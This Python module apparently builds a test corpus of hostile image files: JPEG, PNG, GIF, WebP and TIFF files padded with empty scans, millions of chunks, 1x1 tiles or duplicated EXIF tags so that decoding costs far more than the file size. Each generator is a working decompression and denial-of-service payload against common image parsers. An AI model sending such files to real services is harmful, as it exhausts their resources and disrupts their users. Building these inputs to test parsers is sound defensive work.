"""Make image files that cost far more to open than they weigh: empty scans, chunks, tiles, tags."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator

import numpy as np
from PIL import Image

SIDE = 2048  # pixels of the larger pictures


def _saved(picture: Image.Image, kind: str, **options) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _grey(side: int = 64) -> Image.Image:
    return Image.fromarray(np.random.default_rng(0).integers(0, 255, (side, side), np.uint8))


# --- JPEG ----------------------------------------------------------------------------------------


def scans(count: int, side: int = SIDE, more: bytes = b"") -> bytes:
    """A progressive JPEG with so many empty scans: each a refinement in which nothing changes."""
    blank = Image.new("L", (side, side), 128)
    whole = _saved(blank, "JPEG", progressive=True)[:-2]
    table = b"\xff\xc4" + struct.pack(">HB", 20, 0x10) + bytes([1] + [0] * 15) + b"\xe0"
    begin = b"\xff\xda" + struct.pack(">HBBBBBB", 8, 1, 1, 0, 1, 63, 0x10)
    blocks = -((-side // 8) ** 2)
    runs = b""
    bits = ""
    while blocks > 0:  # end-of-band runs of 2**14 blocks and more: code 0, then 14 bits
        bits += "0" + f"{min(blocks, 2**15 - 1) - 2**14:014b}"
        blocks -= min(blocks, 2**15 - 1)
        if 0 < blocks < 2**14:
            break
    bits += "1" * (-len(bits) % 8)
    runs = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8)).replace(
        b"\xff", b"\xff\x00"
    )
    return whole + table + (begin + runs + more) * count + b"\xff\xd9"


def jpeg_segments(count: int, segment: bytes = b"\xff\xfe\0\x02") -> bytes:
    """A JPEG with so many empty comments (or other segments) in its head."""
    data = _saved(_grey(), "JPEG")
    return data[:2] + segment * count + data[2:]


def jpeg_fill(count: int, byte: bytes = b"\xff") -> bytes:
    """A JPEG with so many fill bytes between two segments."""
    data = _saved(_grey(), "JPEG")
    end = 4 + struct.unpack_from(">H", data, 4)[0]
    return data[:end] + byte * count + data[end:]


def jpeg_late_segments(count: int) -> bytes:
    """A JPEG with so many empty comments between its scans."""
    return scans(1, 64, b"\xff\xfe\0\x02" * count)


# --- PNG, GIF, WebP ------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_chunks(count: int, kind: bytes = b"prVt", data: bytes = b"") -> bytes:
    """A PNG with so many chunks of a kind before its pixels."""
    plain = _saved(_grey(), "PNG")
    return plain[:33] + _chunk(kind, data) * count + plain[33:]


def png_pixels(count: int) -> bytes:
    """A PNG with so many empty chunks of pixels."""
    plain = _saved(_grey(), "PNG")
    first = plain.index(b"IDAT") - 4
    return plain[:first] + _chunk(b"IDAT") * count + plain[first:]


def png_end(count: int) -> bytes:
    """A PNG with so many empty chunks after its pixels."""
    plain = _saved(_grey(), "PNG")
    return plain[:-12] + _chunk(b"prVt") * count + plain[-12:]


def png_transparent(side: int = 4096) -> bytes:
    """A PNG as large as is still opened, in the mode that takes the most memory."""
    return _saved(Image.new("RGBA", (side, side), (200, 0, 0, 100)), "PNG", compress_level=1)


def gif_comments(count: int, comment: bytes = b"\x21\xfe\0") -> bytes:
    """A GIF with so many extensions before its picture."""
    data = _saved(_grey(), "GIF")
    start = 13 + 3 * 2 ** ((data[10] & 7) + 1) * (data[10] >> 7)
    return data[:start] + comment * count + data[start:]


def gif_blocks(count: int) -> bytes:
    """A GIF with one comment of so many blocks of one byte."""
    return gif_comments(1, b"\x21\xfe" + b"\x01a" * count + b"\0")


def gif_pixels(count: int) -> bytes:
    """A GIF whose pixels come in blocks of one byte, before them so many clear codes."""
    data = _saved(_grey(), "GIF")
    start = data.index(b",", 13 + 3 * 256) + 10
    return data[: start + 1] + b"\x01\x00" * count + data[start + 1 :]


def webp_chunks(count: int) -> bytes:
    """A WebP with so many empty chunks."""
    plain = _saved(_grey(), "WEBP", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0", lossless=True)
    data = plain[8:] + (b"JUNK" + bytes(4)) * count
    return b"RIFF" + struct.pack("<I", len(data)) + data


def webp_frames(count: int) -> bytes:
    """An animated WebP with so many frames."""
    frames = [Image.new("RGB", (16, 16), (200 * k, 0, 0)) for k in range(2)]
    plain = _saved(frames[0], "WEBP", save_all=True, append_images=frames[1:])
    at = plain.rindex(b"ANMF")
    data = plain[8:] + plain[at:] * count
    return b"RIFF" + struct.pack("<I", len(data)) + data


# --- TIFF, EXIF ----------------------------------------------------------------------------------

SHORT, LONG, BYTE = 3, 4, 1


def tiff(tags: dict[int, tuple[int, int, int]], more: bytes = b"", big: bool = False) -> bytes:
    """A little-endian TIFF with these tags {number: (type, count, value or offset)}, then `more`.

    Offsets are from the end of the tags.
    """
    start = 8 + 2 + 12 * len(tags) + 4
    out = b"II*\0" + struct.pack("<IH", 8, len(tags))
    for tag, (kind, count, value) in sorted(tags.items()):
        far = count * {SHORT: 2, LONG: 4, BYTE: 1}[kind] > 4
        out += struct.pack("<HHII", tag, kind, count, value + start * far)
    return out + bytes(4) + more


def _grey_tags(width: int, height: int, packing: int = 1) -> dict[int, tuple[int, int, int]]:
    values = {256: width, 257: height, 258: 8, 259: packing, 262: 1, 277: 1}
    return {tag: (LONG if tag < 258 else SHORT, 1, value) for tag, value in values.items()}


def tiff_tiles(side: int = 1000, packing: int = 1, tile: int = 1) -> bytes:
    """A TIFF of tiles of 1 x 1 pixels."""
    count = (-(-side // tile)) ** 2
    tags = _grey_tags(side, side, packing) | {
        322: (LONG, 1, tile),
        323: (LONG, 1, tile),
        324: (LONG, count, 0),
        325: (LONG, count, 0),
    }
    return tiff(tags, struct.pack("<I", 8) * count)


def tiff_strips(count: int = 1_000_000, packing: int = 1, rows: int = 1) -> bytes:
    """A TIFF with so many strips."""
    tags = _grey_tags(4, 4_000_000, packing) | {
        273: (LONG, count, 0),
        278: (LONG, 1, rows),
        279: (LONG, count, 0),
    }
    return tiff(tags, struct.pack("<I", 8) * count)


def tiff_few_offsets(packing: int = 5) -> bytes:
    """A TIFF that claims tiles of 1 x 1 pixels and gives one offset."""
    tags = _grey_tags(4000, 4000, packing) | {
        322: (LONG, 1, 1),
        323: (LONG, 1, 1),
        324: (LONG, 1, 8),
        325: (LONG, 1, 8),
    }
    return tiff(tags, bytes(64))


def tiff_huge_tile(packing: int = 5) -> bytes:
    """A TIFF of one tile of 30,000 x 30,000 pixels."""
    tags = _grey_tags(100, 100, packing) | {
        322: (LONG, 1, 30_000),
        323: (LONG, 1, 30_000),
        324: (LONG, 1, 8),
        325: (LONG, 1, 64),
    }
    return tiff(tags, bytes(64))


def tiff_tags(count: int = 60_000, size: int = 2**23) -> bytes:
    """A TIFF with so many tags that all have the same data."""
    tags = _grey_tags(100, 100) | dict.fromkeys(range(1000, 1000 + count), (BYTE, size, 0))
    tags |= {273: (LONG, 1, 8), 278: (LONG, 1, 100), 279: (LONG, 1, 10_000)}
    return tiff(tags, bytes(size))


def exif_tags(kind: str, count: int = 60_000, size: int = 2**22) -> bytes:
    """A picture whose EXIF has so many tags that all have the same data."""
    exif = tiff(dict.fromkeys(range(1000, 1000 + count), (BYTE, size, 0)), bytes(size))
    if kind == "PNG":
        return png_chunks(1, b"eXIf", exif)
    return _saved(_grey(), kind, exif=b"Exif\0\0" + exif)


def exif_small_tags(count: int = 5_000) -> bytes:
    """A JPEG with so many tags in its EXIF."""
    exif = tiff(dict.fromkeys(range(1000, 1000 + count), (BYTE, 4, 0)))
    return _saved(_grey(), "JPEG", exif=b"Exif\0\0" + exif)


def _million(make: Callable[..., bytes], *more) -> Callable[[], bytes]:
    return lambda: make(1_000_000, *more)


HOSTILE: dict[str, Callable[[], bytes]] = {
    "JPEG of 20,000 scans": lambda: scans(20_000),
    "JPEG of 100,000 scans": lambda: scans(100_000),
    "JPEG of 100,000 scans, 128 x 128": lambda: scans(100_000, 128),
    "JPEG of 1,000 scans": lambda: scans(1_000),
    "JPEG of 40 scans, still opened": lambda: scans(39, 4096),
    "JPEG, 1,000,000 comments": _million(jpeg_segments),
    "JPEG, 1,000,000 EOI": _million(jpeg_segments, b"\xff\xd9"),
    "JPEG, 1,000,000 comments between scans": _million(jpeg_late_segments),
    "JPEG, 16,000,000 fill bytes": lambda: jpeg_fill(16_000_000),
    "JPEG, 16,000,000 zero bytes": lambda: jpeg_fill(16_000_000, b"\0"),
    "PNG, 1,000,000 private chunks": _million(png_chunks),
    "PNG, 1,000,000 tEXt chunks": _million(png_chunks, b"tEXt", b"a\0"),
    "PNG, 1,000,000 gAMA chunks": _million(png_chunks, b"gAMA", bytes(4)),
    "PNG, 1,000,000 IDAT chunks": _million(png_pixels),
    "PNG, 1,000,000 chunks at its end": _million(png_end),
    "PNG, 16,000 IDAT chunks, still opened": lambda: png_pixels(16_000),
    "PNG, 4096 x 4096 and transparent, still opened": png_transparent,
    "GIF, 1,000,000 comments": _million(gif_comments),
    "GIF, 1,000,000 comments of a byte": _million(gif_comments, b"\x21\xfe\x01a\0"),
    "GIF, 1,000,000 controls": _million(gif_comments, b"\x21\xf9\x04\0\0\0\0\0"),
    "GIF, 1,000,000 stray bytes": _million(gif_comments, b"\0"),
    "GIF, comment of 8,000,000 blocks": lambda: gif_blocks(8_000_000),
    "GIF, 8,000,000 blocks of pixels": lambda: gif_pixels(8_000_000),
    "WebP, 2,000,000 chunks": lambda: webp_chunks(2_000_000),
    "WebP, 200,000 frames": lambda: webp_frames(200_000),
    "TIFF of 1 x 1 tiles": tiff_tiles,
    "TIFF of 1 x 1 tiles, LZW": lambda: tiff_tiles(1000, 5),
    "TIFF of 1 x 1 tiles, one offset": tiff_few_offsets,
    "TIFF of 1 x 1 tiles, one offset, deflate": lambda: tiff_few_offsets(8),
    "TIFF of 1,000,000 strips": tiff_strips,
    "TIFF of 1,000,000 strips, LZW": lambda: tiff_strips(1_000_000, 5),
    "TIFF of one strip for 4,000,000 rows": lambda: tiff_strips(1, 5),
    "TIFF of a tile of 30,000 x 30,000": tiff_huge_tile,
    "TIFF, 60,000 tags of 8 MB": tiff_tags,
    "PNG, 60,000 EXIF tags of 4 MB": lambda: exif_tags("PNG"),
    "WebP, 60,000 EXIF tags of 4 MB": lambda: exif_tags("WEBP"),
    "JPEG, 5,000 EXIF tags": exif_small_tags,
}


def hostile() -> Iterator[tuple[str, bytes]]:
    """Yield (what, file) of every attack, one at a time in memory."""
    for what, make in HOSTILE.items():
        yield what, make()
